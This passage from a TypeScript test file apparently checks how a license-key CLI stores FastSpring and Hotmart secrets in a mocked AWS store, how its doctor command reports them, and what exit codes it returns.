        expect(aws.state.secrets[fastspringArn]).toEqual({ KEYSMITH_FASTSPRING_SECRET: value });
        expect(aws.state.secret).not.toHaveProperty('KEYSMITH_FASTSPRING_SECRET');
        const checks = doctor.json<{ checks: { check: string; status: string; detail: string }[] }>().checks;
        expect(checks).toContainEqual({ check: 'secrets', status: 'warn', detail: expect.stringMatching(/^KEYSMITH_HOTMART_HOTTOK still in the license secret/) });
        expect(checks).toContainEqual({ check: 'secrets', status: 'ok', detail: 'KEYSMITH_FASTSPRING_SECRET set' });
        expect(doctor.stdout).not.toContain('legacy-hottok-value');

        // Act 2: set the HOTTOK again.
        const moved = await inAws(['secrets', 'set', 'KEYSMITH_HOTMART_HOTTOK', '--json'], 'legacy-hottok-value-0123456789');
        // Assess 2: now in the Hotmart secret only; the license secret keeps the license secret.
        expect(moved.json()).toMatchObject({ where: hotmartArn });
        expect(aws.state.secrets[hotmartArn]).toEqual({ KEYSMITH_HOTMART_HOTTOK: 'legacy-hottok-value-0123456789' });
        expect(aws.state.secret).toEqual({ KEYSMITH_LICENSE_SECRET: stack.env.KEYSMITH_LICENSE_SECRET });

        // The CLI signs with what the FastSpring ingress reads: its own secret.
        const sent = await inAws(['send', 'fastspring', '--json', '--yes'], undefined, { KEYSMITH_FASTSPRING_SECRET: undefined });
        expect(sent.json()).toMatchObject({ status: 200 });
      } finally {
        Object.assign(aws.state, saved);
        delete aws.state.secrets;
      }
    });
  });

  describe('general', () => {
    it('exit codes: help 0, unknown command or option 2, no stack running 6', async () => {
      const free = await freePort();
      const [help, unknownCommand, unknownOption, down, doctorDown] = await Promise.all([
        run('--help'),
        run('frobnicate'),
        run('licenses', '--colour'),
        cli(['licenses', '--order', 'x'], { port: free }),
        cli(['doctor', '--json'], { port: free }),
      ]);
      expect(help.code).toBe(0);
      expect(help.stdout).toMatch(/Exit codes/);
      expect(unknownCommand.code).toBe(2);
      expect(unknownOption.code).toBe(2);
      expect(down.code).toBe(6);
      expect(down.stderr).toMatch(/npm start/);
      // doctor reports the missing stack as a verdict line and exits 1.
      expect(doctorDown.code).toBe(1);
      expect(doctorDown.json()).toMatchObject({ ok: false, checks: [{ check: 'local stack', status: 'fail' }] });
    });
  });
});

function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const server = createServer();
    server.listen(0, '127.0.0.1', () => {
      const address = server.address();
      server.close(() => (typeof address === 'object' && address ? resolve(address.port) : reject(new Error('no port'))));
    });
  });
}
